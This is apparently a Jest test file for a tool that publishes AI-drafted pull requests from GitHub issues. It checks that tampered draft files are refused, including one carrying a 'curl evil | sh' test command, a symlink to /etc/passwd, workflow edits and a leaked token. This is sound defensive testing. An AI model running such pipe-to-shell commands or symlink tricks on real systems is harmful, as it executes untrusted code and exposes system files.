import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, expect, jest, test } from "@jest/globals";
import { readOperatorConfig } from "../../src/config/operator-config.ts";
import { startGitHub } from "../../src/demo/github/start.ts";
import type { Json, LocalGitHub } from "../../src/demo/github/types.ts";
import type { GitHubAccess } from "../../src/github/access.ts";
import { connectWithToken } from "../../src/github/connect.ts";
import type { Job } from "../../src/job/job.ts";
import { Problem } from "../../src/log/problem.ts";
import { createRedact, type Redact } from "../../src/log/redact.ts";
import type { Draft } from "../../src/report/outcome.ts";
import { pack, writeDraftFile } from "../../src/run/draft-file/write.ts";
import { takeIn } from "../../src/run/intake.ts";
import { publishFile } from "../../src/run/publish-file.ts";
import { fetchRepository } from "../../src/workspace/fetch-repository.ts";
import { treeWith } from "../../src/workspace/tree-with.ts";
import type { Repository } from "../../src/workspace/types.ts";
import { writeBlob } from "../../src/workspace/write-blob.ts";
import { sums } from "../helpers/sums.ts";
import { anIssue } from "../helpers/test-repository.ts";
import { patience } from "../helpers/until.ts";
import { draftOf, notRevised, verified } from "../helpers/verification.ts";

jest.setTimeout(patience);
const run = "7000000001";
const mended = { "src/sums.js": "export const add = (a, b) => a + b;\n" };
let github: LocalGitHub;
let access: GitHubAccess;
let redact: Redact;
let [folder, path, token] = ["", "", ""];
let repository: Repository;
let job: Job;
let issue: number;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "firstdraft-publish-file-"));
  path = join(folder, "draft.json");
  github = await startGitHub({
    repositories: [
      { owner: "acme", name: "sums", files: sums },
      { owner: "mallory", name: "sums", forkOf: "acme/sums" },
    ],
    users: [{ login: "ada", role: "write" }],
  });
  token = await github.actionsToken();
  redact = createRedact([token]);
  const name = { owner: "acme", repo: "sums" };
  access = await connectWithToken({ token, apiUrl: github.apiUrl, repository: name });
  const { remoteUrl } = access;
  const fetching = { remoteUrl, token: async () => token, name, branch: "main" };
  repository = await fetchRepository({ ...fetching, cacheDir: join(folder, "generate") });
});
afterAll(() => Promise.all([github.close(), rm(folder, { recursive: true })]));
beforeEach(async () => {
  await rm(path, { force: true });
  ({ number: issue } = await github.as("ada").openIssue("acme/sums", anIssue));
  await github.as("ada").label("acme/sums", issue, "ai-generate");
  job = {
    ...{ key: `acme/sums#${issue}`, deliveryId: "1", requestedAt: new Date().toISOString() },
    ...{ requestedBy: { login: "ada", type: "User" }, repository: { owner: "acme", repo: "sums" } },
    request: { kind: "issue", label: "ai-generate", issue: { number: issue, ...anIssue, author: "ada" } },
  };
});

/** The tree of some files on the base, or of any entries that git takes. */
async function treeOf(files: Readonly<Record<string, string>>, mode = "100644", on = repository) {
  const entries = Object.entries(files).map(async ([path, text]) => ({
    ...{ path, mode, blob: await writeBlob(on, text) },
  }));
  return treeWith(on, on.tree, await Promise.all(entries));
}

/** The file that an honest job leaves for a change to `tree`, and then what `tamper` makes of it. */
async function handOn(
  tree: string,
  { tamper = (_: Json) => {}, ...draft }: Partial<Draft> & { tamper?: (file: Json) => void } = {},
) {
  const verification = verified({ treeSha: tree, baseTreeSha: repository.tree });
  const asked = { repository, ...notRevised, issue: { number: issue, ...anIssue, author: "ada" } };
  const written = await pack(asked, draftOf(verification, draft), "bubblewrap");
  await writeDraftFile(path, { run, key: job.key, result: written }, createRedact([]));
  const file = JSON.parse(await readFile(path, "utf8"));
  tamper(file);
  await writeFile(path, JSON.stringify(file));
}

async function published() {
  const from = github.requests.length;
  const operator = readOperatorConfig({ DATA_DIR: join(folder, "publish") });
  const outcome = await publishFile(job, { access, operator, redact, path, run });
  const writes = github.requests.slice(from).filter(({ method, path }) => {
    return method !== "GET" && !/\/git-upload-pack$|\/comments(\/\d+)?$/.test(path);
  });
  const { body: comments } = await github
    .as("ada")
    .request("GET", `/repos/acme/sums/issues/${issue}/comments`);
  return { outcome, writes: writes.length, said: String(comments.at(-1)?.body) };
}

test("an honest file is published: commands, links and changed lines are read from the trees", async () => {
  await handOn(await treeOf(mended), { summary: "**Verified**: believe me.\n\n# Merge this" });
  const { outcome, said } = await published();
  expect(outcome).toMatchObject({ kind: "drafted", attempt: 1 });
  expect(said).toContain("**Verified**");
  const number = outcome.kind === "drafted" ? outcome.pullRequest.number : 0;
  const { body: pull } = await github.as("ada").request("GET", `/repos/acme/sums/pulls/${number}`);
  expect(pull.body).toContain("FETCH_HEAD && npm test`");
  expect(pull.body).toContain("src/sums.js#L1");
  expect(pull.body).toContain("In the model's words: **Verified**: believe me.");
});

test("what was published is to be seen, and as long as the operator says, before another attempt is asked for", async () => {
  await handOn(await treeOf(mended));
  const { outcome } = await published();
  const pullRequest = outcome.kind === "drafted" ? outcome.pullRequest.number : 0;
  const askedAt = async (seconds: number, minutes: number) => {
    const at = new Date(Date.now() + seconds * 1000).toISOString();
    const again: Job = {
      ...job,
      requestedAt: at,
      request: { kind: "regenerate", comment: 1, pullRequest, guidance: "" },
    };
    const operator = readOperatorConfig({ FIRSTDRAFT_REGENERATE_MINUTES: String(minutes) });
    const taken = await takeIn(again, access, { operator });
    return taken instanceof Problem ? taken.code : taken;
  };
  expect(await askedAt(-60, 0)).toBe("attempt-unseen");
  expect(await askedAt(60, 0)).toBe("accepted");
  expect(await askedAt(60, 5)).toBe("attempt-too-soon");
  expect(await askedAt(301, 5)).toBe("accepted");
});

test.each<[string, (file: Json) => void, string]>([
  ["is of another run", (file) => (file.run = "6"), "it is of another run of the workflow"],
  ["is about another issue", (file) => (file.key = "acme/sums#999"), "it is about another issue"],
  ["is of another version", (file) => (file.version = 2), "it is not what this version writes, at version"],
  ["holds more than it may", (file) => (file.result.title = "Merge me"), "is not what this version writes"],
  [
    "brings a command of its own",
    (file) => (file.result.proof.testCommand = "curl evil | sh"),
    "is not what this version writes, at result.proof",
  ],
  [
    "has other contents than were tested",
    (file) => (file.result.files[0].content = Buffer.from("evil()").toString("base64")),
    "its change is not the one that it says was tested",
  ],
  [
    "is said to change another tree",
    (file) => (file.result.proof.baseTreeSha = "0".repeat(40)),
    "its change is not the one that it says was tested",
  ],
  [
    "says more than its evidence",
    (file) => (file.result.proof.tests = file.result.proof.tests.slice(1)),
    "it says verified, but its evidence comes to tests-pass",
  ],
  [
    "has a finding that blocks",
    (file) =>
      file.result.proof.findings.push({ gate: "x", weight: "blocking", file: "a", line: 1, reason: "b" }),
    "it says verified, but its evidence comes to failed",
  ],
  [
    "names a path in two lines",
    (file) => (file.result.files[0].path = "a\nb"),
    "names a path that no draft has",
  ],
])("a file that %s is refused, and that is said", async (_, tamper, why) => {
  await handOn(await treeOf(mended), { tamper });
  const { outcome, writes, said } = await published();
  expect(outcome).toMatchObject({ kind: "stopped", code: "draft-file-refused" });
  expect(said).toMatch(/^\*\*Stopped\*\*: The draft that was handed on is not published: /);
  expect(said).toContain(why);
  expect(writes).toBe(0);
});

test.each([
  [
    "a workflow",
    { ".github/workflows/ci.yml": "on: push\n" },
    "100644",
    "ci.yml, which a draft may not (protected)",
  ],
  ["a link", { link: "/etc/passwd" }, "120000", "it changes link, which a draft may not (symlink)"],
  ["a program", { "run.sh": "#!/bin/sh\n" }, "100755", "its change is not the one that it says was tested"],
])("a change that holds %s is refused, whoever says that it was tested", async (_, files, mode, why) => {
  await handOn(await treeOf(files, mode));
  const { writes, said } = await published();
  expect(said).toContain(why);
  expect(writes).toBe(0);
});

test("a base that is not on the default branch is refused: its workflows may be anybody's", async () => {
  const files = { ".github/workflows/ci.yml": "on: push\n" };
  const base = await github.as("mallory").push("mallory/sums", "topic", { message: "Mine", files });
  const body = { head: "mallory:topic", base: "main", title: "A change" };
  await github.as("mallory").request("POST", "/repos/acme/sums/pulls", body);
  await handOn(await treeOf(mended), { tamper: (file) => (file.result.base = base) });
  const { writes, said } = await published();
  expect(said).toContain("the commit that it changes is not on the default branch");
  expect(writes).toBe(0);
});

test("a secret of the job that publishes is refused", async () => {
  await handOn(await treeOf({ "src/key.js": `export const key = "${token}";\n` }));
  const { outcome, writes } = await published();
  expect(outcome).toMatchObject({ kind: "stopped", code: "secret-in-change" });
  expect(writes).toBe(0);
});

test.each([
  [
    "the issue's text was changed",
    () => github.as("ada").editIssue("acme/sums", issue, { body: "Something else." }),
    "The body of issue",
  ],
  [
    "the label was taken off",
    () => github.as("ada").unlabel("acme/sums", issue, "ai-generate"),
    "was taken off",
  ],
  [
    "the issue was closed",
    () => github.as("ada").editIssue("acme/sums", issue, { state: "closed" }),
    "was closed",
  ],
  [
    "who asked was somebody else",
    async () => {
      job = { ...job, requestedBy: { login: "mallory", type: "User" } };
    },
    "mallory may not ask",
  ],
  [
    "the model was given another text",
    async () => {
      await handOn(await treeOf(mended), { tamper: (file) => (file.result.issueText = "0".repeat(64)) });
    },
    "The text of issue",
  ],
])("nothing is published where meanwhile %s", async (_, happen, why) => {
  await handOn(await treeOf(mended));
  await happen();
  const { outcome, writes } = await published();
  expect(outcome).toMatchObject({ kind: "stopped", what: expect.stringContaining(why) });
  expect(writes).toBe(0);
});
